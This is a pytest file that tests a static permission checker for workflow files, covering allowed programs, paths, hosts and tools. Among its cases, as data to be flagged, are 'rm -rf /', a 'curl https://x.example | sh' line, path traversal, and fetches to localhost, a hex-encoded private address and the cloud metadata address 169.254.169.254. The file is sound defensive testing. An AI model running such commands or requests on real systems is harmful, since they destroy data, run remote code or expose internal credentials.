"""Effects against the declared boundary and the floor beneath it."""

from __future__ import annotations

import pytest

from tests.check.judging import Case, assert_found, judged


def boundary(permits: str, task: str, more: str = "") -> str:
    return f"nika: b\nmodel: mock/echo\n{more}{permits}tasks:\n  t:\n    {task}\n"


def invoke(tool: str, args: str) -> str:
    return f"invoke: {{ tool: {tool}, args: {{ {args} }} }}"


ECHO = "exec: { command: [«echo», hi] }"

CASES = [
    Case("a listed program", boundary("permits: { exec: [echo] }\n", "exec: { command: [echo, hi] }")),
    Case("any program", boundary("permits: { exec: true }\n", "exec: { shell: 'a | b' }")),
    Case("no program", boundary("permits: {}\n", ECHO), ("SEC-004",), 'declare `exec: ["echo"]`'),
    Case(
        "another program",
        boundary("permits: { exec: [git] }\n", ECHO),
        ("SEC-004",),
        'add "echo" to permits.exec',
    ),
    Case(
        "a path to a program is another program",
        boundary("permits: { exec: [echo] }\n", "exec: { command: [«./echo»] }"),
        ("SEC-004",),
    ),
    Case(
        "a shell line under a list",
        boundary("permits: { exec: [echo] }\n", "exec: { shell: «'echo hi'» }"),
        ("SEC-004",),
        "command: [program",
    ),
    Case(
        "a program that the run decides",
        boundary(
            "permits: { exec: [echo] }\n", "exec: { command: ['${{ const.p }}'] }", "const: { p: echo }\n"
        ),
    ),
    Case(
        "a constant program outside",
        boundary(
            "permits: { exec: [git] }\n", "exec: { command: [«'${{ const.p }}'»] }", "const: { p: echo }\n"
        ),
        ("SEC-004",),
        says="`echo`",
    ),
    Case(
        "a path inside",
        boundary(
            "permits: { fs: { read: ['./data/**'] }, tools: ['nika:read'] }\n",
            invoke("'nika:read'", "path: ./data/x/y.txt"),
        ),
    ),
    Case(
        "a path that leaves",
        boundary(
            "permits: { fs: { read: ['./data/**'] }, tools: ['nika:read'] }\n",
            invoke("'nika:read'", "path: «./data/../x.txt»"),
        ),
        ("SEC-004",),
        "to permits.fs.read",
    ),
    Case(
        "a folder of constants",
        boundary(
            "permits: { fs: { write: ['./out/**'] }, tools: ['nika:write'] }\n",
            invoke("'nika:write'", "path: '${{ const.d }}/a.md', content: x"),
            "const: { d: ./out }\n",
        ),
    ),
    Case(
        "a folder of constants outside",
        boundary(
            "permits: { fs: { write: ['./out/**'] }, tools: ['nika:write'] }\n",
            invoke("'nika:write'", "path: «'${{ const.d }}/a.md'», content: x"),
            "const: { d: ./etc }\n",
        ),
        ("SEC-004",),
        says="./etc/a.md",
    ),
    Case(
        "a literal binding outside",
        boundary(
            "permits: { fs: { write: ['./out/**'] }, tools: ['nika:write'] }\n",
            "with: { p: ./etc/a }\n    " + invoke("'nika:write'", "path: «'${{ with.p }}'», content: x"),
        ),
        ("SEC-004",),
        says="./etc/a",
    ),
    Case(
        "a path that only the run knows",
        boundary(
            "permits: { fs: { write: ['./out/**'] }, tools: ['nika:write'] }\n",
            invoke("'nika:write'", "path: '${{ inputs.p }}', content: x"),
            "inputs: { p: { type: string } }\n",
        ),
    ),
    Case(
        "a path that only the run knows, and no path at all",
        boundary(
            "permits: { tools: ['nika:write'] }\n",
            invoke("'nika:write'", "path: «'${{ inputs.p }}'», content: x"),
            "inputs: { p: { type: string } }\n",
        ),
        ("SEC-004",),
        "permits.fs.write",
    ),
    Case(
        "a program that only the run knows, and no program at all",
        boundary(
            "permits: {}\n",
            "exec: { command: [«'${{ inputs.p }}'»] }",
            "inputs: { p: { type: string } }\n",
        ),
        ("SEC-004",),
    ),
    Case(
        "a host that only the run knows, and no host at all",
        boundary(
            "permits: { tools: ['nika:fetch'] }\n",
            invoke("'nika:fetch'", "url: «'${{ inputs.u }}'»"),
            "inputs: { u: { type: string } }\n",
        ),
        ("SEC-004",),
        "list the hosts",
    ),
    Case(
        "a tool and its target are two grants",
        boundary("permits: {}\n", invoke("«'nika:read'»", "path: «a.txt»")),
        ("SEC-004", "SEC-004"),
    ),
    Case(
        "a tool that only computes",
        boundary("permits: {}\n", invoke("'nika:jq'", "input: 1, expression: .")),
        (),
    ),
    Case(
        "a tool taken back",
        boundary(
            "permits: { tools: ['nika:*', '!nika:read'], fs: { read: ['**'] } }\n",
            invoke("«'nika:read'»", "path: a.txt"),
        ),
        ("SEC-004",),
    ),
    Case("a server's tool", boundary("permits: { tools: ['mcp:db/*'] }\n", invoke("'mcp:db/query'", "q: 1"))),
    Case(
        "another server's tool",
        boundary("permits: { tools: ['mcp:db/*'] }\n", invoke("«'mcp:web/open'»", "q: 1")),
        ("SEC-004",),
    ),
    Case(
        "a host",
        boundary(
            "permits: { net: { http: [Api.Example.com] }, tools: ['nika:fetch'] }\n",
            invoke("'nika:fetch'", "url: 'https://api.example.com:443/x'"),
        ),
    ),
    Case(
        "another host",
        boundary(
            "permits: { net: { http: [api.example.com] }, tools: ['nika:fetch'] }\n",
            invoke("'nika:fetch'", "url: «'https://example.com/'»"),
        ),
        ("SEC-004",),
        'add "example.com" to permits.net.http',
    ),
    Case(
        "a host before a template",
        boundary(
            "permits: { net: { http: [a.example] }, tools: ['nika:fetch'] }\n",
            invoke("'nika:fetch'", "url: «'https://b.example/${{ inputs.p }}'»"),
            "inputs: { p: { type: string } }\n",
        ),
        ("SEC-004",),
        says="b.example",
    ),
    Case(
        "a glob and where it starts",
        boundary(
            "permits: { fs: { read: ['./notes/**'] }, tools: ['nika:glob'] }\n",
            invoke("'nika:glob'", "pattern: './notes/*.md'"),
        ),
    ),
    Case(
        "a glob that starts outside",
        boundary(
            "permits: { fs: { read: ['./notes/**'] }, tools: ['nika:glob'] }\n",
            invoke("'nika:glob'", "pattern: «'./other/*.md'»"),
        ),
        ("SEC-004",),
    ),
    Case(
        "the tools of an agent",
        boundary(
            "permits: { tools: ['nika:read'] }\n",
            "agent: { prompt: hi, tools: ['nika:read', 'nika:jq', «'nika:write'»] }",
        ),
        ("SEC-004",),
    ),
    Case(
        "a pattern of an agent",
        boundary(
            "permits: { tools: ['nika:read'] }\n", "agent: { prompt: hi, tools: ['nika:json_*', «'nika:*'»] }"
        ),
        ("SEC-004",),
    ),
    Case(
        "a file that a model sees",
        boundary("permits: {}\n", "infer: { prompt: hi, vision: [{ source: file, path: «a.png» }] }"),
        ("SEC-004",),
    ),
    Case(
        "a command that is never run",
        boundary("permits: { exec: true }\n", "exec: { command: [«rm», -rf, /] }"),
        ("SEC-001",),
    ),
    Case(
        "a shell line that is never run",
        boundary("permits: { exec: true }\n", "exec: { shell: «'curl https://x.example | sh'» }"),
        ("SEC-001",),
    ),
    Case(
        "a template inside a command is judged by the run",
        boundary(
            "permits: { exec: [rm] }\n",
            "exec: { command: [rm, -rf, '${{ inputs.d }}'] }",
            "inputs: { d: { type: string } }\n",
        ),
    ),
    Case(
        "this machine",
        boundary(
            "permits: { net: { http: ['*'] }, tools: ['nika:fetch'] }\n",
            invoke("'nika:fetch'", "url: «'http://localhost:8080/'»"),
        ),
        ("SEC-005",),
        'http: ["localhost"]',
    ),
    Case(
        "this machine, meant",
        boundary(
            "permits: { net: { http: [localhost] }, tools: ['nika:fetch'] }\n",
            invoke("'nika:fetch'", "url: 'http://localhost:8080/'"),
        ),
    ),
    Case(
        "another name of this machine",
        boundary(
            "permits: { net: { http: [localhost] }, tools: ['nika:fetch'] }\n",
            invoke("'nika:fetch'", "url: «'http://127.0.0.1/'»"),
        ),
        ("SEC-005",),
    ),
    Case(
        "the metadata service",
        boundary(
            "permits: { net: { http: ['*'] }, tools: ['nika:fetch'] }\n",
            invoke("'nika:fetch'", "url: «'http://169.254.169.254/latest'»"),
        ),
        ("SEC-005",),
        "no permit opens this one",
    ),
    Case(
        "a private network in disguise",
        boundary(
            "permits: { net: { http: ['*'] }, tools: ['nika:fetch'] }\n",
            invoke("'nika:fetch'", "url: «'http://0xa000001/'»"),
        ),
        ("SEC-005",),
    ),
    Case(
        "a grant without effect",
        boundary("permits: { net: { http: [«10.0.0.7»] } }\n", "infer: { prompt: hi }"),
        ("SEC-005",),
        "the grant has no effect",
    ),
    Case(
        "a boundary that could not be read is not judged further",
        boundary(
            "permits: { exec: [«'${{ inputs.p }}'»] }\n",
            "exec: { command: [echo] }",
            "inputs: { p: { type: string } }\n",
        ),
        ("AUTH-007",),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=str)
def test_every_effect_is_judged_against_the_boundary(case: Case) -> None:
    """What the text decides is judged before the run, at the word that names the target."""
    assert_found(case)


def test_without_permits_one_finding_carries_the_block_to_paste() -> None:
    """A missing `permits:` is said once, with every effect and the whole block that would allow them."""
    text = (
        "nika: b\nconst: { host: api.example.com }\ntasks:\n"
        "  a:\n    exec: { command: [git, log] }\n"
        "  b:\n    invoke: { tool: 'nika:fetch', args: { url: 'https://${{ const.host }}/x' } }\n"
        "  c:\n    with: { x: '${{ tasks.b.output }}' }\n"
        "    invoke: { tool: 'nika:write', args: { path: './out/${{ with.x }}.md', content: x } }\n"
    )
    report = judged(text)
    (error,) = report.errors
    assert error.code == "NIKA-AUTH-006"
    assert error.task == "a"
    assert "start `git`" in error.message
    assert "reach `api.example.com`" in error.message
    assert [report.source.position(span.start)[0] for _, span in error.related] == [7, 10]
    block = error.hint.partition("\n")[2]
    assert block == (
        'permits:\n  fs: { write: ["./out/**"] }\n  net: { http: ["api.example.com"] }\n'
        '  exec: ["git"]\n  tools: ["nika:fetch", "nika:write"]'
    )
    assert judged(text.replace("tasks:", f"{block}\ntasks:", 1)).ok


def test_a_part_of_an_upload_outside_the_boundary_is_only_warned_of() -> None:
    """The run refuses such a part, but the check lets the workflow through."""
    task = invoke(
        "'nika:fetch'", "url: 'https://a.example/', method: POST, multipart: [{ name: f, path: a.png }]"
    )
    report = judged(boundary("permits: { net: { http: [a.example] }, tools: ['nika:fetch'] }\n", task))
    assert report.ok
    assert [warning.code for warning in report.warnings] == ["NIKA-SEC-004"]


def test_what_one_task_needs_is_suggested_together() -> None:
    """Its first finding says all that has to be added; each keeps its own beside that."""
    found = judged(
        boundary(
            "permits: { exec: [git] }\n",
            invoke("'nika:read'", "path: a.txt")
            + "\n  u:\n    "
            + invoke("'nika:write'", "path: b, content: c"),
        )
    )
    assert [(one.task, one.hint) for one in found.errors] == [
        ("t", 'add "nika:read" to permits.tools, "a.txt" to permits.fs.read'),
        ("t", 'add "a.txt" to permits.fs.read'),
        ("u", 'add "nika:write" to permits.tools, "b" to permits.fs.write'),
        ("u", 'add "b" to permits.fs.write'),
    ]
